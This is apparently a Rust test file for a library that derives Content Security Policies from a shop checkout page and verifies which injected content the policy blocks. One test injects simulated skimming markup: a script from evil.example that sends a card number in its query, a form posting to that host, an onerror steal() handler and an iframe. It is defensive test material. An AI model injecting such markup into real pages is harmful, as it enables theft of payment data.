//! Policies made from pages, and what they would stop.

use gabion_markup::policy::{Allowlist, Mode, Plan, PolicySet, Subject, Trust, Where, breakage, generate};
use gabion_markup::{Address, Collector, Page, Rewrite};

const PAGE: &str = "<script src=/a.js></script><script>one()</script><body onload=go()>\
    <script src=//cdn.example/b.js?v=1></script><form action=//pay.example/go></form>\
    <iframe src=//frame.example/></iframe><link rel=stylesheet href=//cdn.example/a.css>\
    <img src=//pix.example/1.png><img src=/own.png><img src=data:image/gif;base64,R0lG><script type=application/json>{}</script>";

fn at() -> Address {
    Address::parse("https://shop.example/checkout").expect("an address")
}

fn page(text: &str) -> Page {
    let mut collector = Collector::new(&at(), None, Rewrite::default());
    let mut out = Vec::new();
    collector.write(text.as_bytes(), &mut out);
    collector.finish(&mut out)
}

fn plan(trust: Trust) -> Plan {
    Plan { mode: Mode::Enforce, trust, report_path: "/.gabion/report".to_owned(), hash_reports: false }
}

#[test]
fn a_proposal_lets_its_own_page_pass_and_stops_what_is_added() {
    let seen = page(PAGE);
    let mut allowed = Allowlist::of_own();
    allowed.add_page(&seen, &at());
    let policy = generate(&allowed, &plan(Trust::Places)).expect("a policy").policy;
    assert_eq!(breakage(&policy, &seen, &at(), None), []);
    let skimmed = page(&format!(
        "{PAGE}<script>steal()</script><script src=//evil.example/x.js?card=4242424242424242></script>\
         <form action=//evil.example/f></form><img src=//evil.example/p onerror=steal()><iframe src=//evil.example/i>"
    ));
    let broken = breakage(&policy, &skimmed, &at(), None);
    let directives: Vec<_> = broken.iter().map(|broken| broken.directive.as_str()).collect();
    assert_eq!(
        directives,
        ["form-action", "frame-src", "img-src", "script-src-attr", "script-src-elem", "script-src-elem"],
        "{broken:#?}"
    );
    assert!(broken.iter().all(|broken| !broken.what.contains('?')));
}

#[test]
fn a_policy_beside_the_shops_can_only_forbid_more() {
    let mut allowed = Allowlist::default();
    allowed.add_page(&page(PAGE), &at());
    let ours = generate(&allowed, &plan(Trust::Places)).expect("a policy");
    let theirs = "script-src 'self'; connect-src https:";
    let both = PolicySet::parse([theirs, ours.headers[1].value.as_str()], []);
    let (cdn, api) = ("https://cdn.example/b.js", "https://api.example/");
    let (cdn, api) = (Address::parse(cdn).expect("an address"), Address::parse(api).expect("an address"));
    let script = Subject::Script { from: Where::Web(&cdn), nonce: None, integrity: None, is_in_page: true };
    assert!(!both.allows(&script, &at()), "theirs forbids it");
    let connect = Subject::Reach { directive: "connect-src", to: Where::Web(&api) };
    assert!(!both.allows(&connect, &at()), "ours forbids it");
}
